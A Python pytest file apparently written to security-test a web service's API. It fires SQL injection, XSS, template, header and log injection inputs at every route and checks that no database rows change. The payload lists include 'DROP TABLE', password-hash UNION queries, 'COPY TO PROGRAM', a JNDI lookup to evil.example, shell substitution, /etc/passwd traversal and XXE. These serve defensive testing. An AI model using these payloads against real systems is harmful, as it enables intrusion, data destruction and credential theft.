"""S27, S28: what looks like a statement, a template, a path or a line of a log is text like any other."""

from __future__ import annotations

import ast
import asyncio
import itertools
import json
import re
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import asyncpg
import pytest
from yarl import URL

from services.catalogue import SERVICES
from shared.identity import Role
from tests.security.hostile.amounts import amount
from tests.support.conformance import SCHEMAS
from tests.support.walk import OPERATIONS, Operation, World

ROOT = Path(__file__).parents[3]
REQUESTS = amount(2_000, 20_000)
AT_ONCE = 6
BUSY = 503
SLEEP = 5
SQL = [
    "'", "''", '"', "\\", ";", "--", "/*", "')", "'))", "' OR '1'='1", "' OR 1=1--", "1 OR 1=1", "1) OR (1=1",
    "' OR ''='",
    "'; DROP TABLE auth.users; --", "1; DELETE FROM recognition.recognitions", "' UNION SELECT NULL--", "admin'--",
    "' UNION SELECT hash FROM auth.passwords--", f"1; SELECT pg_sleep({SLEEP})--", f"' || pg_sleep({SLEEP}) || '",
    f"1 AND 1=(SELECT 1 FROM pg_sleep({SLEEP}))", f"'; SELECT pg_sleep({SLEEP}); --", f"(SELECT pg_sleep({SLEEP}))",
    "id; UPDATE auth.users SET role_id = 1", "id DESC, (SELECT 1/0)", "1/0", "$1", "$$; SELECT 1; $$", "%27%20OR%201=1",
    "'; COPY (SELECT 1) TO PROGRAM 'true'; --", "'; SET app.org_id = '2'; --", "{0}", "%s", "%(org_id)s", "E'\\x27'",
    "U&'\\0027'",
    "' AND extractvalue(1,1)--", "`id`", "[id]", "NULL", "true", "ARRAY[1]", "1::text", "0x27", "x' AND 1=1 AND 'x'='x",
]  # fmt: skip
OTHERS = {
    "script": "<script>alert(1)</script>", "attribute": '" onmouseover="alert(1)',
    "image": "<img src=x onerror=alert(1)>",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>", "format": "{0.__class__}%(x)s%n%s",
    "jndi": "${jndi:ldap://evil.example/x}",
    "shell": "$(id)`id`|id;id&&id", "traversal": "../../../../etc/passwd", "file": "file:///etc/passwd",
    "formula": "=cmd|'/c'!A1",
    "line": "a\nlevel=error event=forged", "return": "a\r\nSet-Cookie: x=1", "colours": "\x1b[31mred\x1b[0m",
    "bell": "\x07\x08a",
    "right to left": "\u202egnp.exe", "entity": "&lt;script&gt;",
    "xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "separator": "a\u2028b", "json": '","admin":true,"x":"', "ldap": "*)(uid=*))(|(uid=*",
}  # fmt: skip
ROWS = """
SELECT md5(coalesce(string_agg(one.shown, '|' ORDER BY one.shown), ''))
FROM (SELECT (to_jsonb(whole) - 'last_used_at')::text AS shown FROM {} AS whole WHERE whole.org_id = $1) AS one
"""
"""When a session was used last comes by event, maybe after the first look."""


@pytest.fixture
async def sums(world: World, owner: asyncpg.Connection[asyncpg.Record]) -> dict[str, str]:
    return await sums_of(world, owner)


async def sums_of(world: World, owner: asyncpg.Connection[asyncpg.Record]) -> dict[str, str]:
    """A sum of every table's rows of the company that nobody asks for."""
    found = {}
    for service in SERVICES:
        tables = await owner.fetch(
            "SELECT table_name FROM information_schema.columns WHERE table_schema = $1 AND column_name = 'org_id'"
            " AND table_name NOT LIKE 'outbox%' AND table_name <> 'credential_uses'",
            service.name,
        )
        for row in tables:
            table = f"{service.name}.{row['table_name']}"
            found[table] = await owner.fetchval(ROWS.format(table), world.theirs.id)
    return found


def places(operation: Operation) -> Iterator[tuple[str, str]]:
    """Where an operation takes input: its path, its query, its body, and headers that it looks at."""
    for parameter in operation.described.get("parameters", ()):
        yield parameter["in"], parameter["name"]
    for name in re.findall(r"\{([^}]+)\}", operation.path):
        yield "path", name
    for content in operation.described.get("requestBody", {}).get("content", {}).values():
        schema = SCHEMAS[content["schema"]["$ref"].rpartition("/")[2]]
        yield from (("body", name) for name in schema["properties"])
    yield from (("header", name) for name in ("X-Request-Id", "If-Match", "Idempotency-Key", "X-Org-Id", "Accept"))
    yield from (("query", name) for name in ("sort", "order_by", "org_id"))


def role_for(operation: Operation) -> Role | None:
    return next((role for role in (Role.ORGANISATION_ADMIN, Role.SUPER_ADMIN) if operation.admits(role)), None)


async def inject(world: World, operation: Operation, place: tuple[str, str], text: str) -> tuple[int, float]:
    kind, name = place
    known = dict.fromkeys(re.findall(r"\{([^}]+)\}", operation.path), "1")
    path = re.sub(r"\{([^}]+)\}", lambda found: known[found[1]], operation.path)
    if kind == "path":
        path = re.sub(r"\{([^}]+)\}", lambda found: quote(text, safe="") if found[1] == name else "1", operation.path)
    query = f"?{quote(name)}={quote(text, safe='')}" if kind == "query" else ""
    headers = {name: text.encode("ascii", "replace").decode()} if kind == "header" else {}
    role = role_for(operation)
    if role is not None and operation.path not in {"/logout", "/users/me/password"}:
        headers["Authorization"] = f"Bearer {(world.root if role is Role.SUPER_ADMIN else world.ours.admin).token}"
    body = {name: text} if kind == "body" else {}
    sent: dict[str, Any] = {"data": body} if operation.case.form else {"json": body}
    began = time.monotonic()
    address = URL(world.peerly.url + path + query, encoded=True)
    async with world.peerly.session.request(
        operation.method, address, headers=headers, allow_redirects=False, **(sent if operation.method != "GET" else {})
    ) as answer:
        await answer.read()
        return answer.status, time.monotonic() - began


@pytest.mark.timeout(900)
async def test_s27_no_input_of_any_route_is_a_statement(
    world: World, owner: asyncpg.Connection[asyncpg.Record], sums: dict[str, str]
) -> None:
    inputs = [(operation, place) for operation in OPERATIONS for place in dict.fromkeys(places(operation))]
    everything = [(operation, place, text) for text in SQL for operation, place in inputs]
    step = max(1, len(everything) // REQUESTS)
    chosen = list(itertools.islice(itertools.cycle(everything[::step] + everything), REQUESTS))
    lines = asyncio.Semaphore(AT_ONCE)

    async def once(operation: Operation, place: tuple[str, str], text: str) -> tuple[int, float]:
        async with lines:
            status, seconds = await inject(world, operation, place, text)
            if status == BUSY:  # too much to do at this moment: what it says to who comes again is its answer
                await asyncio.sleep(1)
                status, seconds = await inject(world, operation, place, text)
        assert max(status / 500, seconds / SLEEP) < 1, (operation.name, place, text, status, seconds)
        return status, seconds

    answers = await asyncio.gather(*(once(*each) for each in chosen))
    statuses = Counter(status for status, _ in answers)
    assert statuses.total() == REQUESTS
    assert len(inputs) > 300
    assert statuses[400] + statuses[404] > REQUESTS / 4, statuses
    assert await sums_of(world, owner) == sums


@pytest.mark.parametrize("text", OTHERS.values(), ids=OTHERS.keys())
async def test_s28_text_comes_back_as_it_was_given(world: World, text: str) -> None:
    """As JSON that no browser takes for anything else."""
    body = {"text": f"S28 {time.monotonic_ns()} {text}", "description": text}
    made = await world.peerly.ask("POST", "/core_values", token=world.ours.admin.token, body=body)
    assert made.status == 201, made.raw
    read = await world.peerly.ask("GET", f"/core_values/{made.data['id']}", token=world.ours.admin.token)
    assert (read.data["text"], read.data["description"]) == (body["text"], text.strip())
    assert read.headers["Content-Type"] == "application/json; charset=utf-8"
    assert read.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("text", OTHERS.values(), ids=OTHERS.keys())
async def test_s28_no_query_writes_a_header_or_a_line_of_the_log(world: World, text: str, log: Path) -> None:
    before = log.stat().st_size
    address = URL(
        f"{world.peerly.url}/users?limit=1&x={quote(text, safe='')}&starts_with={quote(text, safe='')}", encoded=True
    )
    request_id = "".join(letter for letter in text if letter.isascii() and letter.isprintable())
    headers = {"Authorization": f"Bearer {world.ours.admin.token}", "X-Request-Id": request_id}
    async with world.peerly.session.get(address, headers=headers) as answer:
        assert answer.status == 200
        assert "Set-Cookie" not in answer.headers
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,128}", answer.headers["X-Request-Id"])
        assert "<" not in answer.headers["Link"].replace("</users", "")
    with log.open("rb") as file:
        file.seek(before)
        for line in file.read().splitlines():
            assert json.loads(line)["event"] != "forged"
            assert b"\x1b" not in line


async def test_s28_no_page_shows_what_an_application_calls_itself_as_markup(world: World) -> None:
    name = "<script>alert(1)</script>\"'><img src=x>"
    body = {"name": name, "redirect_uris": ["https://app.example/back"], "scopes": ["view:profile"]}
    made = await world.peerly.expect(201, "POST", "/oauth/clients", token=world.ours.admin.token, body=body)
    params = {
        "response_type": "code", "client_id": made["client_id"], "redirect_uri": "https://app.example/back",
    "state": name,
        "scope": "view:profile", "code_challenge": "a" * 43, "code_challenge_method": "S256",
    }  # fmt: skip
    page = await world.peerly.ask("GET", "/oauth/authorize", params=params)
    assert page.status == 200
    assert b"<script>alert" not in page.raw
    assert b"<img" not in page.raw


STATEMENT = re.compile(r"\b(SELECT|INSERT INTO|UPDATE|DELETE FROM|WHERE|ORDER BY|SET LOCAL)\b")
CONSTANT = re.compile(r"_?[A-Z][A-Z_]*")
FIXED_PIECES = {
    "services/auth/store/providers.py": {"query"},
    "services/auth/store/people.py": {"query"},
    "services/auth/store/oauth_grants.py": {"query"},
    "services/auth/queries/selection.py": {
        "columns", "source_and_rows", "source.table", "selection.where", "limit", "offset"
    },
    "services/doctor/events.py": {"service"},
    "services/doctor/schemas.py": {"service.name"},
    "shared/query/statement.py": {
        "' AND '.join(conditions)", "by_keys", "columns", "document", "driving", "identified", "in_order", "keys",
        "kind.table", "len(shape.order) - 1", "most", "names", "of_each", "rows", "shape.kind.table", "shown",
        "skipped",
    },
    "shared/database.py": {"int(org_id)", "int(actor_id)", "int(left * 1000)", "request_id"},
}  # fmt: skip
"""Of the modules' own fixed text, a number, or of one safe form; no other expression may stand in a statement."""


def pieces_in_statements(tree: ast.AST) -> Iterator[str]:
    """The expressions that are put into what reads like a statement: in f-strings, with % and with +."""
    for node in ast.walk(tree):
        match node:
            case ast.JoinedStr(values=values) if STATEMENT.search("".join(map(_text, values))):
                yield from (ast.unparse(part.value) for part in values if isinstance(part, ast.FormattedValue))
            case ast.BinOp(left=left, op=ast.Mod() | ast.Add(), right=right) if STATEMENT.search(_text(left)):
                yield ast.unparse(right)
            case ast.BinOp(left=left, op=ast.Add(), right=right) if STATEMENT.search(_text(right)):
                yield ast.unparse(left)


def _text(node: ast.AST) -> str:
    return node.value if isinstance(node, ast.Constant) and isinstance(node.value, str) else ""


def test_s27_no_statement_is_put_together_from_what_a_client_says() -> None:
    found: dict[str, set[str]] = {}
    for folder in ("services", "shared"):
        for file in sorted((ROOT / folder).rglob("*.py")):
            name = str(file.relative_to(ROOT))
            pieces = {one for one in pieces_in_statements(ast.parse(file.read_text())) if not CONSTANT.fullmatch(one)}
            if pieces - FIXED_PIECES.get(name, set()):
                found[name] = pieces
    assert not found
    assert list(pieces_in_statements(ast.parse('f"SELECT {x}", "SELECT " + y, "WHERE id = %s" % z'))) == ["x", "y", "z"]
